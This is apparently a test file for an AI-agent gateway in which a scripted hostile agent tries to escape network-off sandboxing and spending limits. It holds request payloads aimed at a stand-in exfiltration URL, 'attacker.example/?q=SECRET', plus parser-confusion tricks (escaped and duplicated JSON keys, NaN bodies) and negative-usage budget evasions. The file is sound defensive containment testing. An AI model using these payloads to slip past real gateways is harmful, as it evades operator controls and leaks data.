// A hostile agent behind the gateway: a configured program that sends its own requests with the token it got. It tries to
// make the vendor fetch addresses while the network is off, and to spend more than its budget. The vendor is a server in
// this file, which records what really arrives.
import { afterEach, beforeEach, describe, expect, test } from "bun:test";
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { temporaryHome, type TemporaryHome, vendorEnv } from "../support/temporary-home.ts";

type Sent = { path: string; body: object | string };

const messages = "/v1/messages";
const responses = "/v1/responses";
const chat = "/v1/chat/completions";
const gemini = "/v1beta/models/gemini-3-pro-preview:generateContent";
const evil = "https://attacker.example/?q=SECRET";
const user = (content: unknown) => ({ model: "m", max_tokens: 9, messages: [{ role: "user", content }] });
const input = (content: unknown) => ({ model: "m", input: [{ role: "user", content }] });
const parts = (part: object) => ({ contents: [{ role: "user", parts: [part] }] });
const escaped = (body: object, name: string) =>
  JSON.stringify(body).replaceAll(name, `\\u00${name.charCodeAt(0).toString(16)}${name.slice(1)}`);
const server = [{ type: "url", url: evil, name: "x" }];

/** Each makes a vendor connect to an address of the agent's choice, or search the web. */
const fetches: Record<string, Sent> = {
  "a remote MCP server": { path: messages, body: { ...user("hi"), mcp_servers: server } },
  "a key with an escaped letter": { path: messages, body: escaped({ ...user("hi"), mcp_servers: server }, "mcp_servers") },
  "a key that is repeated": {
    path: messages,
    body: `{"mcp_servers":${JSON.stringify(server)},"model":"m","max_tokens":9,"messages":[],"mcp_servers":[]}`,
  },
  "a body that only a lenient parser reads": { path: messages, body: `{"mcp_servers":${JSON.stringify(server)},"temperature":NaN}` },
  "an image by URL": { path: messages, body: user([{ type: "image", source: { type: "url", url: evil } }]) },
  "a document by URL in a result": {
    path: messages,
    body: user([{ type: "tool_result", tool_use_id: "1", content: [{ type: "document", source: { type: "url", url: evil } }] }]),
  },
  "an image within a document": {
    path: messages,
    body: user([{ type: "document", source: { type: "content", content: [{ type: "image", source: { type: "url", url: evil } }] } }]),
  },
  web_fetch: { path: messages, body: { ...user(evil), tools: [{ type: "web_fetch_20250910", name: "web_fetch" }] } },
  web_search: { path: messages, body: { ...user("hi"), tools: [{ type: "web_search_20250305", name: "web_search" }] } },
  "a count of tokens": { path: `${messages}/count_tokens`, body: user([{ type: "image", source: { type: "url", url: evil } }]) },
  "an MCP tool": { path: responses, body: { ...input("hi"), tools: [{ type: "mcp", server_label: "x", server_url: evil }] } },
  "a search": { path: responses, body: { ...input("hi"), tools: [{ type: "web_search" }] } },
  "a tool of an unknown type": { path: responses, body: { ...input("hi"), tools: [{ type: "browse_everything" }] } },
  "a search in a namespace": {
    path: responses,
    body: { ...input("hi"), tools: [{ type: "namespace", name: "n", tools: [{ type: "web_search_preview" }] }] },
  },
  "a search in an input item": {
    path: responses,
    body: { model: "m", input: [{ type: "additional_tools", tools: [{ type: "mcp", server_url: evil }] }] },
  },
  "a file by URL": { path: responses, body: input([{ type: "input_file", file_url: evil }]) },
  "an input image by URL": { path: responses, body: input([{ type: "input_image", image_url: evil }]) },
  "an image in a result": {
    path: responses,
    body: { model: "m", input: [{ type: "function_call_output", call_id: "1", output: [{ type: "input_image", image_url: evil }] }] },
  },
  "a chat image by URL": { path: chat, body: user([{ type: "image_url", image_url: { url: evil } }]) },
  "a chat file by URL": { path: chat, body: user([{ type: "file", file: { filename: "a", file_data: evil } }]) },
  web_search_options: { path: chat, body: { ...user("hi"), web_search_options: {} } },
  "a plugin of OpenRouter": { path: chat, body: { ...user("hi"), plugins: [{ id: "web" }] } },
  "a model that searches": { path: chat, body: { ...user("hi"), model: "openai/gpt-5.2:online" } },
  "a model that searches if another fails": {
    path: chat,
    body: { ...user("hi"), model: "openai/gpt-5.2", models: ["openai/gpt-5.2:online"] },
  },
  "a preset of OpenRouter": { path: chat, body: { ...user("hi"), preset: "with-search" } },
  "a model with a preset": { path: chat, body: { ...user("hi"), model: "openai/gpt-5.2@preset/with-search" } },
  "a stored prompt": { path: responses, body: { model: "m", prompt: { id: "pmpt_1", variables: { q: evil } } } },
  "a shell of the vendor": {
    path: responses,
    body: {
      ...input(evil),
      tools: [
        {
          type: "shell",
          environment: { type: "container_auto", network_policy: { type: "allowlist", allowed_domains: ["attacker.example"] } },
        },
      ],
    },
  },
  "a search of xAI": { path: chat, body: { ...user("hi"), search_parameters: { mode: "on" } } },
  fileData: { path: gemini, body: parts({ fileData: { fileUri: evil } }) },
  file_data: { path: gemini, body: parts({ file_data: { file_uri: evil } }) },
  urlContext: { path: gemini, body: { ...parts({ text: evil }), tools: [{ urlContext: {} }] } },
  google_search: { path: gemini, body: { ...parts({ text: "hi" }), tools: [{ google_search: {} }] } },
};

/** Ordinary requests with words that look similar. */
const harmless: Record<string, Sent> = {
  "a call with a source": {
    path: messages,
    body: {
      ...user("hi"),
      mcp_servers: [],
      tools: [{ name: "get", input_schema: { type: "object", properties: { file_url: { type: "string" }, source: { type: "url" } } } }],
      messages: [
        {
          role: "assistant",
          content: [{ type: "tool_use", id: "1", name: "get", input: { source: { type: "url", url: evil }, file_url: evil } }],
        },
        { role: "user", content: [{ type: "image", source: { type: "base64", media_type: "image/png", data: "aaaa" } }] },
      ],
    },
  },
  "a search of the vendor's index": {
    path: responses,
    body: {
      ...input([{ type: "input_image", image_url: "data:image/png;base64,aaaa" }]),
      tools: [{ type: "web_search", external_web_access: false }],
    },
  },
  "a shell of the client": { path: responses, body: { ...input("hi"), tools: [{ type: "shell", environment: { type: "local" } }] } },
  "a chat image in the request": { path: chat, body: user([{ type: "image_url", image_url: { url: "data:image/png;base64,aaaa" } }]) },
  "arguments of Gemini": { path: gemini, body: parts({ functionCall: { name: "f", args: { fileData: { fileUri: evil } } } }) },
};

const program = `
const { readFileSync } = require("node:fs");
const sent = JSON.parse(readFileSync("requests.json", "utf8"));
const url = process.env.ANTHROPIC_BASE_URL, token = process.env.ANTHROPIC_API_KEY;
const ask = async ({ path, body }) => {
  const answer = await fetch(url + path, { method: "POST", headers: { "x-api-key": token, authorization: "Bearer " + token },
    body: typeof body === "string" ? body : JSON.stringify(body), signal: sent.hangUp ? AbortSignal.timeout(150) : undefined });
  return [answer.status, await answer.text()];
};
const answers = [];
if (sent.atOnce) answers.push(...(await Promise.all(sent.requests.map((request) => ask(request).catch(() => [0, ""])))));
else for (const request of sent.requests) answers.push(await ask(request).catch(() => [0, ""]));
console.log(JSON.stringify(answers.map(([status, text]) => [status, status === 200 ? "" : text.slice(0, 300)])));
`;

let skein: TemporaryHome;
let vendor: Bun.Server<undefined>;
let arrived: string[];
let answer: (body: { stream_options?: { include_usage?: boolean } }) => Response | Promise<Response>;

beforeEach(() => {
  arrived = [];
  answer = () => Response.json({ type: "message", usage: { input_tokens: 5, output_tokens: 5 } });
  vendor = Bun.serve({
    hostname: "127.0.0.1",
    port: 0,
    idleTimeout: 0,
    fetch: async (request) => {
      const body = await request.text();
      arrived.push(body);
      return answer(JSON.parse(body) as object);
    },
  });
  skein = temporaryHome(vendorEnv(`http://127.0.0.1:${vendor.port}`));
  const script = join(skein.root, "agent.mjs");
  writeFileSync(script, program);
  const config = join(skein.env["SKEIN_HOME"] as string, "config");
  mkdirSync(config, { recursive: true });
  const agents = { hostile: { command: process.execPath, args: ["--config=/dev/null", script] } };
  writeFileSync(join(config, "config.jsonc"), JSON.stringify({ agents }));
});

afterEach(async () => {
  await vendor.stop(true);
  skein[Symbol.dispose]();
});

const repeat = (count: number, request: Sent): Sent[] => Array.from({ length: count }, () => request);

type Outcome = { answers: [number, string][]; result: { status: string; usage: { input: number; output: number } } };

async function runAgent(requests: Sent[], flags: string[] = [], more: object = {}): Promise<Outcome> {
  writeFileSync(join(skein.project, "requests.json"), JSON.stringify({ requests, ...more }));
  const ran = await skein.run(["run", "go", "-a", "hostile", "--json", ...flags]);
  expect(ran.err).not.toContain("error:");
  const result = ran.json() as { status: string; result: string | null; usage: { input: number; output: number } };
  return { answers: JSON.parse(result.result || "[]") as [number, string][], result };
}

describe.each(["namespaces", "landlock"])("with the network off, in the best sandbox up to %s", (best) => {
  test("no request that makes the vendor fetch an address reaches the vendor", async () => {
    skein.env["SKEIN_SANDBOX_BEST"] = best;
    const { answers } = await runAgent(Object.values(fetches));
    const names = Object.keys(fetches);
    const kept = new Set(["a key that is repeated"]);
    expect(answers.flatMap(([status], index) => (status === 400 || kept.has(names[index]!) ? [] : names[index]!))).toEqual([]);
    // The vendor gets the value that was checked, and not the other one.
    expect(arrived.filter((body) => body.includes("attacker"))).toEqual([]);
    for (const [status, text] of answers) if (status === 400 && !text.includes("not a JSON object")) expect(text).toContain("--net on");
  });
});

test("ordinary requests reach the vendor unchanged, and with --net on all of them do", async () => {
  const plain = await runAgent(Object.values(harmless));
  expect(plain.answers.map(([status]) => status)).toEqual(Object.keys(harmless).map(() => 200));
  expect(arrived).toEqual(Object.values(harmless).map(({ body }) => JSON.stringify(body)));
  const online = Object.values(fetches).filter(({ body }) => typeof body !== "string");
  const { answers } = await runAgent(online, ["--net", "on"]);
  expect(answers.map(([status]) => status)).toEqual(online.map(() => 200));
});

describe("the budget of --max-tokens 3000", () => {
  const limit = ["--max-tokens", "3000"];

  test("20 requests at once with small bodies and large answers exceed it by at most one answer", async () => {
    for (const body of [{ ...user("hi"), max_tokens: 10_000 }, user("hi")]) {
      arrived = [];
      answer = async () => {
        await Bun.sleep(50);
        return Response.json({ type: "message", usage: { input_tokens: 50, output_tokens: 10_000 } });
      };
      const withoutLimit = { path: messages, body: { ...body, max_tokens: body.max_tokens === 9 ? undefined : body.max_tokens } };
      const { result } = await runAgent(repeat(20, withoutLimit), limit, { atOnce: true });
      expect([arrived.length, result.status]).toEqual([1, "budget"]);
    }
  });

  test("answers without usage are counted by their text", async () => {
    const event = (content: string) => `data: ${JSON.stringify({ choices: [{ index: 0, delta: { content } }] })}\n\n`;
    const stream = event("x".repeat(40_000));
    answer = () => new Response(stream, { headers: { "content-type": "text/event-stream" } });
    const body = { ...user("hi"), stream: true, stream_options: { include_usage: false } };
    const { result } = await runAgent(repeat(25, { path: chat, body }), limit);
    expect([arrived.length, result.status]).toEqual([1, "budget"]);
    expect(result.usage.output).toBeGreaterThan(9000);
    expect(JSON.parse(arrived[0]!)).toMatchObject({ stream_options: { include_usage: true } });
  });

  test("answers that the agent hangs up on are counted by their text", async () => {
    const delta = `event: content_block_delta\ndata: ${JSON.stringify({ type: "content_block_delta", index: 0, delta: { type: "text_delta", text: "x".repeat(9000) } })}\n\n`;
    const start = `event: message_start\ndata: ${JSON.stringify({ type: "message_start", message: { usage: { input_tokens: 5, output_tokens: 1 } } })}\n\n`;
    answer = () =>
      new Response(
        new ReadableStream({
          start: (controller) => controller.enqueue(new TextEncoder().encode(start + delta + delta)),
        }),
        { headers: { "content-type": "text/event-stream" } },
      );
    const { result } = await runAgent(repeat(10, { path: messages, body: { ...user("hi"), stream: true } }), limit, {
      hangUp: true,
    });
    expect([arrived.length, result.status]).toEqual([1, "budget"]);
  });

  test("a request in the background is refused", async () => {
    const { answers } = await runAgent([{ path: responses, body: { ...input("hi"), background: true } }], limit);
    expect(answers).toEqual([[400, expect.stringContaining("background") as string]]);
    expect(arrived).toEqual([]);
  });
});

describe("the budget of --max-budget-usd 0.5", () => {
  const limit = ["--max-budget-usd", "0.5"];
  const opus = { ...user("hi"), model: "claude-opus-4-1" };

  test("a request whose price is unknown is not sent", async () => {
    answer = () => Response.json({ type: "message", usage: { input_tokens: 1000, output_tokens: 100_000 } });
    const unpriced = [
      { path: messages, body: { ...opus, model: "claude-of-tomorrow" } },
      { path: messages, body: { max_tokens: 9, messages: [] } },
      { path: chat, body: { ...opus, model: "gpt-5.2", models: ["openai/o1-pro"] } },
    ];
    for (const request of unpriced) {
      const { result } = await runAgent([request], limit);
      expect([result.status, arrived]).toEqual(["budget", []]);
    }
  });

  test("a request for a faster answer counts with its higher price", async () => {
    answer = () => Response.json({ object: "response", status: "completed", usage: { input_tokens: 0, output_tokens: 15_000 } });
    const body = { ...input("hi"), model: "gpt-5.2" };
    const plain = await runAgent(repeat(2, { path: responses, body }), limit);
    const fast = await runAgent(repeat(2, { path: responses, body: { ...body, service_tier: "priority" } }), limit);
    expect([plain.result.status, fast.result.status, arrived.length]).toEqual(["ok", "budget", 3]);
  });
});

describe("usage that gives budget back", () => {
  const negative = { input_tokens: -1e9, output_tokens: 100_000, cache_read_input_tokens: -1e9, cache_creation_input_tokens: -1 };
  const limits = [
    ["--max-tokens", "3000"],
    ["--max-budget-usd", "0.5"],
  ];

  test.each(limits)("a vendor that reports negative usage ends an agent's %s %s as usual", async (...limit) => {
    answer = () => Response.json({ type: "message", usage: negative });
    const { result } = await runAgent(repeat(4, { path: messages, body: { ...user("hi"), model: "claude-opus-4-1" } }), limit);
    expect([arrived.length, result.status, result.usage]).toMatchObject([1, "budget", { input: 0, output: 100_000 }]);
  });

  test.each(limits)("a vendor that reports negative usage ends the native agent's %s %s as usual", async (...limit) => {
    const events = [
      { type: "message_start", message: { usage: { ...negative, output_tokens: 0 } } },
      { type: "content_block_start", index: 0, content_block: { type: "tool_use", id: "1", name: "bash", input: {} } },
      { type: "content_block_delta", index: 0, delta: { type: "input_json_delta", partial_json: '{"command":"true"}' } },
      { type: "content_block_stop", index: 0 },
      { type: "message_delta", delta: { stop_reason: "tool_use" }, usage: { output_tokens: 50_000 } },
      { type: "message_stop" },
    ];
    const text = events.map((event) => `event: ${event.type}\ndata: ${JSON.stringify(event)}\n\n`).join("");
    answer = () => new Response(text, { headers: { "content-type": "text/event-stream" } });
    const flags = ["-m", "anthropic/claude-opus-4-1", "--max-steps", "4", "--json", ...limit];
    const ran = await skein.run(["run", "go", ...flags]);
    const result = ran.json() as { usage: { input: number } };
    expect([arrived.length, result]).toMatchObject([1, { status: "budget", usage: { output: 50_000 } }]);
    // The native agent estimates input that the vendor does not report.
    expect(result.usage.input).toBeGreaterThan(0);
  });
});
